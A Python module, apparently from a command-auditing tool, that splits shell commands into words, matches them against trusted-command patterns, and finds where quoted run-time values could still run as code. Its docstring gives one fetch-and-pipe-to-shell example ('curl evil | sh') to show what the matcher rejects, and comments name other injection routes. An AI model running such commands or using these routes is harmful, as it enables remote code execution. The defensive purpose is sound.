"""Read a shell command the way a POSIX shell would, as far as a policy needs it: its words,
and whether it is one simple command of plain words.

A command string is *simple* when it splits (POSIX quoting rules, as ``shlex`` in POSIX mode)
into words with no shell syntax outside single quotes: no operator (``;``, ``&``, ``|``,
``&&``, ``||``, ``<``, ``>``, ``(``, ``)``), no newline, no substitution or expansion (``$``,
backticks), no comment, no leading ``NAME=value`` assignment. Globs (``*``, ``?``, ``[``),
brace expansion (``{``) and ``~`` at the start of a word are allowed but the word is marked
*expanded*: the shell may turn it into other words, so a trusted pattern matches it only
literally.

A trusted-command pattern (``systemctl status *``) is split the same way; its words match the
command's words one for one, a ``*`` word stands for any number of whole words (none
included), and glob characters inside a word (``--since=*``) match within that word only.
So ``*`` never spans an operator: ``systemctl status x; curl evil | sh`` is not simple and
matches no pattern.
"""

from __future__ import annotations

import fnmatch
import re
from collections.abc import Callable, Sequence
from collections.abc import Set as AbstractSet
from dataclasses import dataclass, field
from functools import cache
from typing import NamedTuple

_OPERATORS = frozenset(";&|<>()")
_GLOB = frozenset("*?[")
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")


@dataclass(frozen=True, slots=True)
class Words:
    """A command split into words. ``expanded[i]``: word ``i`` holds an unquoted glob, brace
    or tilde that the shell would expand. ``problem``: the first shell syntax that makes the
    command more than one simple command (None when it is simple)."""

    words: tuple[str, ...]
    expanded: tuple[bool, ...]
    problem: str | None = None

    @property
    def simple(self) -> bool:
        return self.problem is None


def split(text: str) -> Words | None:
    """The words of a shell command, or None when it cannot be split (an unterminated quote,
    a trailing backslash)."""
    words: list[str] = []
    expanded: list[bool] = []
    problem: str | None = None
    current: list[str] = []
    in_word = False
    glob = False
    head: str | None = None  # the word's text before its first quote or escape
    only_assignments = True  # every word so far is a NAME=value assignment
    i, n = 0, len(text)

    def note(what: str) -> None:
        nonlocal problem
        if problem is None:
            problem = what

    def quoted() -> None:
        nonlocal head, in_word
        if head is None:
            head = "".join(current)
        in_word = True

    def end_word() -> None:
        nonlocal in_word, glob, head, only_assignments
        if in_word:
            word = "".join(current)
            if only_assignments and _ASSIGNMENT.match(word if head is None else head):
                note("a variable assignment before the command")
            else:
                only_assignments = False
            words.append(word)
            expanded.append(glob)
        current.clear()
        in_word = glob = False
        head = None

    while i < n:
        ch = text[i]
        if ch in " \t":
            end_word()
            i += 1
        elif ch == "\n":
            note("a newline (several commands)")
            end_word()
            i += 1
        elif ch == "#" and not in_word:
            note("a comment")
            break
        elif ch == "'":
            end = text.find("'", i + 1)
            if end < 0:
                return None
            quoted()
            current.append(text[i + 1 : end])
            i = end + 1
        elif ch == '"':
            quoted()
            i += 1
            while True:
                if i >= n:
                    return None
                c = text[i]
                if c == '"':
                    break
                if c == "\\" and i + 1 < n and text[i + 1] in '$`"\\\n':
                    if text[i + 1] != "\n":
                        current.append(text[i + 1])
                    i += 2
                    continue
                if c in "$`":
                    note("a substitution or expansion ($, `)")
                current.append(c)
                i += 1
            i += 1
        elif ch == "\\":
            if i + 1 >= n:
                return None
            if text[i + 1] != "\n":  # a backslash-newline joins lines
                quoted()
                current.append(text[i + 1])
            i += 2
        elif ch in _OPERATORS:
            note(f"the shell operator {_operator_at(text, i)!r}")
            end_word()
            i += 1
        else:
            if ch in "$`":
                note("a substitution or expansion ($, `)")
            elif ch in _GLOB or ch == "{" or (ch == "~" and not in_word):
                glob = True
            current.append(ch)
            in_word = True
            i += 1
    end_word()
    return Words(tuple(words), tuple(expanded), problem)


def _operator_at(text: str, i: int) -> str:
    two = text[i : i + 2]
    return two if two in ("&&", "||", ">>", "<<", ">&", "<&", "|&", ";;") else text[i]


@dataclass(frozen=True, slots=True)
class Pattern:
    """A trusted-command pattern split into words (``*`` alone: any number of words)."""

    text: str
    words: tuple[str, ...]


class PatternError(ValueError):
    """A trusted-command pattern that can never match a simple command."""


@cache
def compile_pattern(text: str) -> Pattern:
    split_ = split(text)
    if split_ is None:
        raise PatternError(f"{text!r} cannot be split into words (an unterminated quote?)")
    if split_.problem is not None:
        raise PatternError(
            f"{text!r} has shell syntax ({split_.problem}); a trusted command is one simple "
            "command of plain words"
        )
    if not split_.words:
        raise PatternError("an empty pattern")
    return Pattern(text, split_.words)


def _word_matches(pattern: str, word: str, expanded: bool) -> bool:
    if expanded:  # the shell would expand it: only the very same text in the pattern
        return pattern == word
    if not any(c in pattern for c in "*?["):
        return pattern == word
    return fnmatch.fnmatchcase(word, pattern)


def words_match(pattern: Pattern, words: Sequence[str], expanded: Sequence[bool]) -> bool:
    """Whether ``words`` (a simple command, or an argv list) match ``pattern`` word for word."""
    pw = pattern.words
    memo: dict[tuple[int, int], bool] = {}

    def go(p: int, w: int) -> bool:
        key = (p, w)
        hit = memo.get(key)
        if hit is not None:
            return hit
        if p == len(pw):
            result = w == len(words)
        elif pw[p] == "*":
            result = any(go(p + 1, k) for k in range(w, len(words) + 1))
        else:
            result = (
                w < len(words) and _word_matches(pw[p], words[w], expanded[w]) and go(p + 1, w + 1)
            )
        memo[key] = result
        return result

    return go(0, 0)


def shell_command_matches(pattern: str, command: str) -> bool:
    """Whether a command string run by a shell matches a trusted pattern: never when the
    command is not one simple command or cannot be split."""
    split_ = split(command)
    if split_ is None or not split_.simple or not split_.words:
        return False
    return words_match(compile_pattern(pattern), split_.words, split_.expanded)


def argv_matches(pattern: str, argv: Sequence[str]) -> bool:
    """Whether an argv list (run without a shell: no word is expanded) matches a pattern."""
    if not argv:
        return False
    return words_match(compile_pattern(pattern), argv, [False] * len(argv))


# --- The first simple command of a command string given with holes -------------------------
#
# A command string built at run time (f"sudo {cmd} --x") is known as constant text segments
# and holes (None). ``first_command`` splits it the way a POSIX shell would and returns the
# words of its FIRST simple command only: it stops at the first operator that ends a command
# (``;``, ``&``, ``|``, ``&&``, ``||``, ``(``, ``)``, a newline or a comment), drops the
# redirections of that command (``2>&1``, ``> out``, ``<<EOF``) and the assignments and
# reserved words before its command word (``A=1``, ``!``, ``{``, ``if``, ``while``...).
# A word is *dynamic* (its text is None) when it touches a hole or holds an expansion the
# shell performs when it runs (``$x``, ``${x}``, ``$(...)``, backticks, ``$'...'``, an
# unquoted glob or brace list, a leading ``~``); its known head and tail are kept. A word
# *splits* when the shell may turn it into several words or none: an unquoted expansion or
# glob, and any word touching a hole unless the caller vouches that every hole is quoted
# (``holes_split=False``, e.g. each hole went through ``shlex.quote``): a hole's text is
# pasted into the command before the shell reads it, so it can hold spaces, quotes or
# operators of its own.

_RESERVED_BEFORE_COMMAND = frozenset(
    {"!", "{", "(", "if", "then", "elif", "else", "while", "until", "do"}
)
_NAME_START = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_")
_NAME_CHARS = _NAME_START | frozenset("0123456789")
_SPECIAL_PARAMETERS = frozenset("@*#?-$!0123456789")


@dataclass(frozen=True, slots=True)
class Piece:
    """A word of the first simple command of a command string with holes. ``text`` is None
    when the word is not known before the shell runs; ``head`` and ``tail`` are then the
    known text it starts and ends with. ``splits``: the word may become several words (or
    none) when the shell runs."""

    text: str | None
    head: str = ""
    tail: str = ""
    splits: bool = False


class _Hole:
    """A hole of the command template (a value known only at run time)."""


_HOLE = _Hole()


class _WordBuilder:
    """The word being read: its known characters, where its first dynamic part starts and
    the known text after its last one."""

    __slots__ = (
        "brace_at", "chars", "dynamic", "head", "in_word", "prefix", "prefix_done",
        "skip_until", "splits", "tail",
    )  # fmt: skip

    def __init__(self) -> None:
        self.chars: list[str] = []
        self.tail: list[str] = []
        self.head: str | None = None
        self.dynamic = False
        self.splits = False
        self.in_word = False
        self.brace_at = -1  # where an unquoted "{" stands in chars (-1: none open)
        # inside a bracket expression or brace list already made dynamic: its text is not
        # the word's known text, up to this closing character
        self.skip_until: str | None = None
        # the unquoted literal text the word starts with, up to its first quote, escape or
        # expansion: a NAME=value assignment needs its NAME= there
        self.prefix: list[str] = []
        self.prefix_done = False

    def _end_prefix(self) -> None:
        self.prefix_done = True

    def literal(self, ch: str, *, quoted: bool) -> None:
        self.in_word = True
        if quoted:
            self._end_prefix()
        elif not self.prefix_done:
            self.prefix.append(ch)
        if self.skip_until is not None:
            if ch == self.skip_until and not quoted:
                self.skip_until = None
            return
        if self.dynamic:
            self.tail.append(ch)
        else:
            self.chars.append(ch)

    def expansion(self, *, splits: bool, at: int | None = None) -> None:
        """A part of the word known only when the shell runs; ``at``: it starts at that
        index of the known characters (a brace list opened earlier)."""
        self.in_word = True
        self._end_prefix()
        if not self.dynamic:
            self.head = "".join(self.chars if at is None else self.chars[:at])
            self.dynamic = True
        self.tail.clear()
        self.splits = self.splits or splits

    def glob(self, ch: str) -> None:
        """An unquoted glob character, tilde or brace-list comma."""
        if not self.prefix_done:
            self.prefix.append(ch)
        if ch == "," and self.brace_at >= 0 and not self.dynamic:
            self.expansion(splits=True, at=self.brace_at)
            self.skip_until = "}"
        elif ch == ",":
            self.expansion(splits=True)
            self.skip_until = "}"
        else:
            self.expansion(splits=ch != "~")
            if ch == "[":
                self.skip_until = "]"

    def open_brace(self) -> None:
        self.literal("{", quoted=False)
        if not self.dynamic:
            self.brace_at = len(self.chars) - 1

    def quoted_empty(self) -> None:
        """An empty quoted string ('' or ""): a word even with no characters."""
        self.in_word = True
        self._end_prefix()

    def is_assignment(self) -> bool:
        prefix = self.prefix
        if not prefix or prefix[0] not in _NAME_START:
            return False
        for ch in prefix[1:]:
            if ch == "=":
                return True
            if ch not in _NAME_CHARS:
                return False
        return False

    def piece(self) -> Piece:
        if self.dynamic:
            return Piece(None, self.head or "", "".join(self.tail), self.splits)
        return Piece("".join(self.chars))


def first_command(
    parts: Sequence[str | None], *, holes_split: bool = True
) -> tuple[Piece, ...] | None:
    """The words of the first simple command of a command string given as constant text
    segments and holes (None); None when it cannot be split (an unterminated quote, a
    trailing backslash). An empty tuple when there is no command word (only assignments,
    an empty string, a comment)."""
    stream: list[str | _Hole] = []
    for part in parts:
        if part is None:
            stream.append(_HOLE)
        else:
            stream.extend(part)
    reader = _CommandReader(stream, holes_split)
    return reader.read()


class _CommandReader:
    def __init__(self, stream: list[str | _Hole], holes_split: bool) -> None:
        self.stream = stream
        self.n = len(stream)
        self.i = 0
        self.holes_split = holes_split
        self.words: list[Piece] = []
        self.word = _WordBuilder()
        self.redirect_target = False  # the next word is the target of a redirection
        self.command_started = False  # a command word was read (assignments now are words)

    def char(self, at: int) -> str | None:
        if at < self.n:
            item = self.stream[at]
            if isinstance(item, str):
                return item
        return None

    def end_word(self) -> None:
        word = self.word
        if word.in_word:
            if self.redirect_target:
                self.redirect_target = False
            elif not self.command_started and word.is_assignment():
                pass  # NAME=value before the command word: the shell's own assignment
            else:
                piece = word.piece()
                if not self.command_started and piece.text in _RESERVED_BEFORE_COMMAND:
                    pass
                else:
                    self.command_started = True
                    self.words.append(piece)
        self.word = _WordBuilder()

    def hole(self) -> None:
        self.word.expansion(splits=self.holes_split)

    def read(self) -> tuple[Piece, ...] | None:
        while self.i < self.n:
            item = self.stream[self.i]
            if isinstance(item, _Hole):
                self.hole()
                self.i += 1
                continue
            ch = item
            if ch in " \t":
                self.end_word()
                self.i += 1
            elif ch == "\n":
                self.end_word()
                if self.command_started:
                    break
                self.i += 1
            elif ch == "#" and not self.word.in_word:
                if self.command_started:
                    break
                self._skip_comment()
            elif ch == "'":
                if not self._single_quoted():
                    return None
            elif ch == '"':
                if not self._double_quoted():
                    return None
            elif ch == "\\":
                nxt = self.char(self.i + 1)
                if self.i + 1 >= self.n:
                    return None
                if nxt == "\n":
                    self.i += 2  # a line continuation
                    continue
                if nxt is None:  # a backslash before a hole: the hole is still unknown text
                    self.i += 1
                    continue
                self.word.literal(nxt, quoted=True)
                self.i += 2
            elif ch == "$":
                if not self._dollar(quoted=False):
                    return None
            elif ch == "`":
                if not self._backtick(quoted=False):
                    return None
            elif ch in "<>" or (ch == "&" and self.char(self.i + 1) == ">"):
                self._redirection()
            elif ch in ";&|()":
                if ch == "(" and not self.command_started and not self.word.in_word:
                    self.i += 1  # a subshell: its first command is the first command
                    continue
                self.end_word()
                if self.command_started:
                    break
                self.i += 1  # an operator before any command word (e.g. "; ls"): go on
            else:
                self._plain(ch)
                self.i += 1
        self.end_word()
        if self.redirect_target:
            self.redirect_target = False
        return tuple(self.words)

    def _bracket_closes(self) -> bool:
        """Whether the ``[`` at self.i opens a bracket expression (a ``]`` follows in the
        same word); a lone ``[`` is the test command."""
        at = self.i + 1
        while (c := self.char(at)) is not None and c not in " \t\n;&|<>()":
            if c == "]":
                return True
            at += 1
        return False

    def _plain(self, ch: str) -> None:
        word = self.word
        if (
            ch in "*?"
            or (ch == "[" and self._bracket_closes())
            or (ch == "~" and not word.in_word)
            or (ch == "," and word.brace_at >= 0)
        ):
            word.glob(ch)
        elif ch == "{":
            word.open_brace()
        else:
            word.literal(ch, quoted=False)

    def _skip_comment(self) -> None:
        while self.i < self.n and self.stream[self.i] != "\n":
            self.i += 1

    def _single_quoted(self) -> bool:
        self.i += 1
        self.word.quoted_empty()
        while self.i < self.n:
            item = self.stream[self.i]
            if isinstance(item, _Hole):
                self.hole()
            elif item == "'":
                self.i += 1
                return True
            else:
                self.word.literal(item, quoted=True)
            self.i += 1
        return False

    def _double_quoted(self) -> bool:
        self.i += 1
        self.word.quoted_empty()
        while self.i < self.n:
            item = self.stream[self.i]
            if isinstance(item, _Hole):
                self.hole()
                self.i += 1
            elif item == '"':
                self.i += 1
                return True
            elif item == "\\":
                nxt = self.char(self.i + 1)
                if nxt is not None and nxt in '$`"\\\n':
                    if nxt != "\n":
                        self.word.literal(nxt, quoted=True)
                    self.i += 2
                else:
                    self.word.literal("\\", quoted=True)
                    self.i += 1
            elif item == "$":
                if not self._dollar(quoted=True):
                    return False
            elif item == "`":
                if not self._backtick(quoted=True):
                    return False
            else:
                self.word.literal(item, quoted=True)
                self.i += 1
        return False

    def _dollar(self, *, quoted: bool) -> bool:
        """``$`` at self.i: an expansion (or a lone dollar sign)."""
        nxt = self.char(self.i + 1)
        if nxt == "(":
            end = self._matching(self.i + 2, "(", ")")
            if end < 0:
                return False
            self.word.expansion(splits=not quoted)
            self.i = end + 1
        elif nxt == "{":
            end = self._matching(self.i + 2, "{", "}")
            if end < 0:
                return False
            self.word.expansion(splits=not quoted)
            self.i = end + 1
        elif nxt == "'" and not quoted:  # $'...' (ANSI-C quoting): escapes are not decoded here
            at = self.i + 2
            while at < self.n:
                c = self.char(at)
                if c == "\\":
                    at += 2
                    continue
                if c == "'":
                    break
                at += 1
            if at >= self.n:
                return False
            self.word.expansion(splits=False)
            self.i = at + 1
        elif nxt == '"' and not quoted:  # $"..." (a translated string): a double-quoted word
            self.i += 1
        elif nxt is not None and (nxt in _NAME_START or nxt in _SPECIAL_PARAMETERS):
            at = self.i + 2
            if nxt in _NAME_START:
                while (c := self.char(at)) is not None and c in _NAME_CHARS:
                    at += 1
            self.word.expansion(splits=not quoted)
            self.i = at
        else:
            self.word.literal("$", quoted=quoted)
            self.i += 1
        return True

    def _backtick(self, *, quoted: bool) -> bool:
        at = self.i + 1
        while at < self.n:
            c = self.char(at)
            if c == "\\":
                at += 2
                continue
            if c == "`":
                self.word.expansion(splits=not quoted)
                self.i = at + 1
                return True
            at += 1
        return False

    def _matching(self, start: int, opening: str, closing: str) -> int:
        """The index of the bracket closing the one opened before ``start`` (quotes inside
        are skipped), or -1."""
        depth = 1
        at = start
        while at < self.n:
            c = self.char(at)
            if c == "\\":
                at += 2
                continue
            if c == "'":
                close = at + 1
                while close < self.n and self.char(close) != "'":
                    close += 1
                at = close + 1
                continue
            if c == opening:
                depth += 1
            elif c == closing:
                depth -= 1
                if depth == 0:
                    return at
            at += 1
        return -1

    def _redirection(self) -> None:
        """A redirection operator at self.i: an IO number before it is dropped, and so is
        the word after it (its target)."""
        word = self.word
        if word.in_word and not word.dynamic and not word.prefix_done:
            text = "".join(word.chars)
            if text.isdigit():
                self.word = _WordBuilder()  # an IO number (2>&1): part of the redirection
        self.end_word()
        at = self.i
        ch = self.char(at)
        if ch == "&":  # &> and &>>
            at += 1
        at += 1
        while (c := self.char(at)) is not None and c in "<>&|-":
            at += 1
        self.i = at
        self.redirect_target = True


# --- Where a quoted hole protects ------------------------------------------------------------
# ``shlex.quote(x)`` makes ``x`` one literal word only where the shell reads the quoted text
# as a word of its own: outside any quotes (inside "..." its single quotes are literal and
# $(...) in ``x`` runs), outside $(...), `...`, ${...} and here-documents, not after a
# backslash or a $ (``$'...'`` reads escapes). And a literal word still runs when it is what
# a command runs: the command word itself (a program chosen by whoever chose ``x``), or the
# code word of a launcher (``bash -c WORD``, ``eval WORD``, ``ssh host WORD``, ``python -c
# WORD``): the launcher reads that word as code. Judged by launchers.toml's table.

_WORD_ENDS = frozenset(" \t")
_COMMAND_ENDS = frozenset("\n;&|()")


@dataclass(slots=True)
class _QWord:
    chars: list[str] = field(default_factory=list)
    dynamic: bool = False
    marks: set[int] = field(default_factory=set)
    started: bool = False

    def assignment(self) -> bool:
        text = "".join(self.chars)
        name, eq, _ = text.partition("=")
        return bool(eq) and name.isidentifier()


def exposed_quoted_holes(
    parts: Sequence[str | int | None],
    peel_words: Callable[[Sequence[PeelWord]], PeelResult],
    not_options: AbstractSet[int] = frozenset(),
) -> set[int]:
    """Which quoted holes of a shell command string do not protect. ``parts``: constant text
    segments, holes (None) and quoted holes (an int naming each); ``peel_words``: the launcher
    peeling of a simple command's words (auditor.judge.launchers.peel_command). A quoted hole
    whose place cannot be read (an unterminated quote) does not protect either, nor one
    where a launcher may read an option (``tar -C d 'WORD'``: ``--to-command=CMD``), unless
    it is among ``not_options`` (its value starts with a constant that is no option), nor
    one whose command's output a later command of its pipeline runs (``echo 'W' | sh``)."""
    exposed: set[int] = set()
    marks = [p for p in parts if isinstance(p, int)]
    stream: list[str | int | None] = []
    for part in parts:
        if isinstance(part, str):
            stream.extend(part)
        else:
            stream.append(part)
    words: list[_QWord] = []
    word = _QWord()
    redirect = False  # the next word is a redirection's target (a file name)
    n = len(stream)
    i = 0

    def end_word() -> None:
        nonlocal word, redirect
        if word.started:
            if redirect:
                redirect = False  # a file name: whatever it holds runs nothing
            else:
                words.append(word)
        word = _QWord()

    piped: set[int] = set()  # the holes of the commands piped into the next one

    def end_command(pipe: bool = False) -> None:
        end_word()
        if not words and not pipe:
            return  # `a |& b`: the & of the pipe's |&
        if piped and words and _runs_stdin(words, peel_words):
            # echo 'WORD' | sh: what the quoted word prints runs (also through a pipeline's
            # other commands: echo 'WORD' | tee log | sh)
            exposed.update(piped)
        exposed.update(_exposed_in_command(words, peel_words, not_options))
        if pipe:
            piped.update(m for w in words for m in w.marks)
        else:
            piped.clear()
        words.clear()

    def nested_until(start: int, opening: str, closing: str) -> int:
        """Skip a nested construct; every quoted hole in it is exposed."""
        depth = 1
        j = start
        while j < n:
            item = stream[j]
            if isinstance(item, int):
                exposed.add(item)
            elif item == "\\":
                j += 1
            elif item == opening and opening != closing:
                depth += 1
            elif item == closing:
                depth -= 1
                if depth == 0:
                    return j + 1
            j += 1
        return n

    while i < n:
        item = stream[i]
        if item is None:
            word.started = word.dynamic = True
            i += 1
            continue
        if isinstance(item, int):
            word.started = word.dynamic = True
            word.marks.add(item)
            i += 1
            continue
        ch = item
        if ch == "\\":
            nxt = stream[i + 1] if i + 1 < n else ""
            if isinstance(nxt, int):
                exposed.add(nxt)  # \'...': the opening quote is literal, the rest unquoted
            elif nxt == "\n":
                i += 2
                continue
            word.started = True
            word.chars.append(nxt if isinstance(nxt, str) else "")
            if nxt is None:
                word.dynamic = True
            i += 2
            continue
        if ch == "'":
            j = i + 1
            while j < n and stream[j] != "'":
                if isinstance(stream[j], int):
                    exposed.add(stream[j])  # type: ignore[arg-type]
                elif stream[j] is None:
                    word.dynamic = True
                else:
                    word.chars.append(stream[j])  # type: ignore[arg-type]
                j += 1
            if j >= n:
                return set(marks)
            word.started = True
            i = j + 1
            continue
        if ch == '"':
            j = i + 1
            while j < n and stream[j] != '"':
                cur = stream[j]
                if isinstance(cur, int):
                    exposed.add(cur)
                elif cur is None:
                    word.dynamic = True
                elif cur == "\\":
                    j += 1
                    if j < n and isinstance(stream[j], int):
                        exposed.add(stream[j])  # type: ignore[arg-type]
                elif cur in "$`":
                    word.dynamic = True
                else:
                    word.chars.append(cur)
                j += 1
            if j >= n:
                return set(marks)
            word.started = True
            i = j + 1
            continue
        if ch == "$":
            nxt = stream[i + 1] if i + 1 < n else ""
            word.started = word.dynamic = True
            if isinstance(nxt, int):
                exposed.add(nxt)  # $'...' reads backslash escapes
                i += 1
            elif nxt == "(":
                i = nested_until(i + 2, "(", ")")
            elif nxt == "{":
                i = nested_until(i + 2, "{", "}")
            else:
                i += 1
            continue
        if ch == "`":
            word.started = word.dynamic = True
            i = nested_until(i + 1, "`", "`")
            continue
        if ch == "#" and not word.started:
            while i < n and stream[i] != "\n":
                i += 1  # a comment: nothing in it runs
            continue
        if ch in "<>":
            end_word()
            if ch == "<" and i + 1 < n and stream[i + 1] == "<":
                # a here-document: its text expands $(...) whatever quotes it holds
                exposed.update(m for m in stream[i:] if isinstance(m, int))
                end_command()
                return exposed
            if i + 1 < n and stream[i + 1] == "(":  # <(...) >(...): a command
                i = nested_until(i + 2, "(", ")")
                continue
            while i + 1 < n and stream[i + 1] in ("<", ">", "&", "|"):
                i += 1
            redirect = True
            i += 1
            continue
        if ch in _WORD_ENDS:
            end_word()
            i += 1
            continue
        if ch in _COMMAND_ENDS:
            pipe = ch == "|" and not (i + 1 < n and stream[i + 1] == "|")
            pipe = pipe and not (i > 0 and stream[i - 1] == "|")
            end_command(pipe)
            i += 1
            continue
        word.started = True
        word.chars.append(ch)
        i += 1
    end_command()
    return exposed


def _runs_stdin(
    words: list[_QWord], peel_words: Callable[[Sequence[PeelWord]], PeelResult]
) -> bool:
    """Whether a simple command runs what it reads from its standard input (``sh``,
    ``bash -s``, ``python3``: the launcher table's ``then = "stdin"`` programs)."""
    kept = [w for w in words if not w.assignment()]
    if not kept:
        return False
    return peel_words([PeelWord(None if w.dynamic else "".join(w.chars)) for w in kept]).stdin


def _exposed_in_command(
    words: list[_QWord],
    peel_words: Callable[[Sequence[PeelWord]], PeelResult],
    not_options: AbstractSet[int] = frozenset(),
) -> set[int]:
    """The quoted holes of one simple command that stand where a command or code runs."""
    if not any(w.marks for w in words):
        return set()
    kept: list[_QWord] = []
    for w in words:
        if not kept and (w.assignment() or "".join(w.chars) in _RESERVED_BEFORE_COMMAND):
            if w.dynamic and not w.assignment():
                kept.append(w)
            continue  # NAME=value before the command word, a reserved word
        kept.append(w)
    if not kept:
        return set()
    kind, start, joined, _, choosers = peel_words(
        [PeelWord(None if w.dynamic else "".join(w.chars)) for w in kept]
    )
    out: set[int] = set()
    for index, w in enumerate(kept):
        if not w.marks:
            continue
        if index in choosers and not w.marks <= not_options:
            out |= w.marks  # tar -C d 'WORD': an option's place, quoted or not (--to-command=)
        elif index == start and kind in ("program", "script", "module", "shell", "code", "unknown"):
            out |= w.marks  # the program, script or code itself
        elif index > start and kind in ("shell", "code") and joined:
            out |= w.marks  # ssh, eval: the words after the launcher are joined into code
        elif index > start and kind == "unknown":
            out |= w.marks  # what runs cannot be told: the hole may be it
    return out


@dataclass(frozen=True, slots=True)
class PeelWord:
    """A word given to the launcher peeling: None when not known before run time."""

    text: str | None


class PeelResult(NamedTuple):
    """What auditor.judge.launchers.Peeled says of a simple command's words."""

    kind: str
    start: int
    joined: bool
    # it runs what it reads from its standard input (``sh``, ``bash -s``, ``python3 -``)
    stdin: bool = False
    # the indexes of the launchers' operands and option values that choose what runs (tar
    # reads a word known only at run time where an option may stand: --to-command=CMD)
    choosers: tuple[int, ...] = ()
